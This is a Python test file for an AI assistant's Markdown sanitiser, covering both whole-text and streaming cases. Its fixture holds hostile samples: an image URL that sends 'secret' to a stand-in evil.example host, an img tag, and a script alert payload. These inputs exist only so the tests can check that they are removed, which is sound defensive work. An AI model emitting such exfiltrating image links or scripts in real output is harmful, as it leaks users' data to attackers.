"""The Markdown sanitiser (assistant/llm/markdown.py) on tiny strings: whole texts, then the streaming
state machine that releases text only once no construct in it can still change."""

from __future__ import annotations

import random

from assistant.llm.markdown import MarkdownStream, sanitize_markdown, urls_in

# -- whole texts -------------------------------------------------------------------------------

def test_an_image_becomes_its_alt_text() -> None:
    assert sanitize_markdown("a ![x](http://e.fr/p.png) b") == "a x b"


def test_a_foreign_link_becomes_its_text_and_a_dispatch_link_stays() -> None:
    assert sanitize_markdown("[t](http://e.fr/x) et [u](http://ok.fr/a)", {"http://ok.fr/a"}) == \
        "t et [u](http://ok.fr/a)"


def test_a_reference_definition_goes() -> None:
    assert sanitize_markdown("[1]: http://e.fr/x\nok") == "\nok"


def test_raw_html_and_comments_go_but_a_lone_angle_bracket_stays() -> None:
    assert sanitize_markdown("a <b>gras</b> <!-- c --> d < e") == "a gras  d < e"


def test_bare_and_autolinked_urls_are_shown_as_code_not_links() -> None:
    text = "<https://e.fr/z> voir http://e.fr/y. et `http://e.fr/c`"
    assert sanitize_markdown(text) == "`https://e.fr/z` voir `http://e.fr/y`. et `http://e.fr/c`"


def test_urls_in_drops_trailing_punctuation() -> None:
    assert urls_in("voir https://e.fr/a, www.x.fr/b. fin") == {"https://e.fr/a", "www.x.fr/b"}


# -- the streaming state machine ---------------------------------------------------------------

def test_whole_words_only_are_released() -> None:
    md = MarkdownStream()
    assert md.feed("Bonjour le") == "Bonjour "
    assert md.feed(" monde ") == "le monde "


def test_a_link_is_held_until_it_closes_then_released_sanitised() -> None:
    md = MarkdownStream()
    assert md.feed("voir [lien") == "voir "
    assert md.feed("](http://e.fr/x) fin ") == "lien fin "


def test_a_bracket_is_held_until_what_follows_it_is_known() -> None:
    md = MarkdownStream()
    assert md.feed("[x]") == ""  # "(" would make it a link, ":" a reference definition
    assert md.feed("(http://e.fr/y) z ") == "x z "
    assert md.feed("[1]") == ""
    assert md.feed(" suite ") == "[1] suite "


def test_a_tag_is_held_until_it_closes_or_a_line_ends() -> None:
    md = MarkdownStream()
    assert md.feed("a <b") == "a "
    assert md.feed("r>c ") == "c "
    md = MarkdownStream()
    assert md.feed("a <b c ") == "a "
    assert md.feed("d\ne ") == "<b c d\ne "


def test_a_reference_definition_is_held_to_its_line_end_then_dropped() -> None:
    md = MarkdownStream()
    assert md.feed("[1]: http://e.fr/ref") == ""
    assert md.feed("\nSuite ") == "\nSuite "
    assert md.flush() == ""


def test_an_opener_left_open_past_the_lookahead_is_plain_text() -> None:
    md = MarkdownStream()
    text = "[" + "x " * 250
    assert md.feed(text) == text and md.pending == ""


def test_unclosed_bracket_is_released_at_the_end() -> None:
    md = MarkdownStream()
    assert md.feed("Fin [1") == "Fin "
    assert md.flush() == "[1"


UNSAFE = ("Intro [1]. Voir ![pixel](http://evil.example/p.png?d=secret) et [ce site](http://evil.example/x) "
          "<img src=http://evil.example/i.png> <script>alert(1)</script> ou http://evil.example/y [1].\n"
          "[2]: http://evil.example/ref\nLa source [ici](https://example.org/koursk) <https://evil.example/z>. "
          "a < b et [note] ok [2].")


def test_sanitize_drops_foreign_images_links_and_html() -> None:
    out = sanitize_markdown(UNSAFE, {"https://example.org/koursk"})
    assert "![" not in out and "<img" not in out and "<script" not in out
    assert "](http://evil" not in out and "http://evil.example/ref" not in out
    assert "pixel" in out and "ce site" in out
    assert "`http://evil.example/y`" in out and "`https://evil.example/z`" in out
    assert "[ici](https://example.org/koursk)" in out, "the dispatches' own link stays"
    assert "a < b et [note] ok [2]." in out and out.startswith("Intro [1].")


def test_stream_sanitising_matches_whole_text_for_any_split() -> None:
    expected = sanitize_markdown(UNSAFE, {"https://example.org/koursk"})
    rng = random.Random(3)
    for trial in range(200):
        md = MarkdownStream({"https://example.org/koursk"})
        pieces, i = [], 0
        while i < len(UNSAFE):
            n = rng.randint(1, 1 + trial % 12)
            pieces.append(md.feed(UNSAFE[i:i + n]))
            i += n
        pieces.append(md.flush())
        assert "".join(pieces) == expected
        assert not any("![" in p or "](http://evil" in p or "<img" in p for p in pieces)
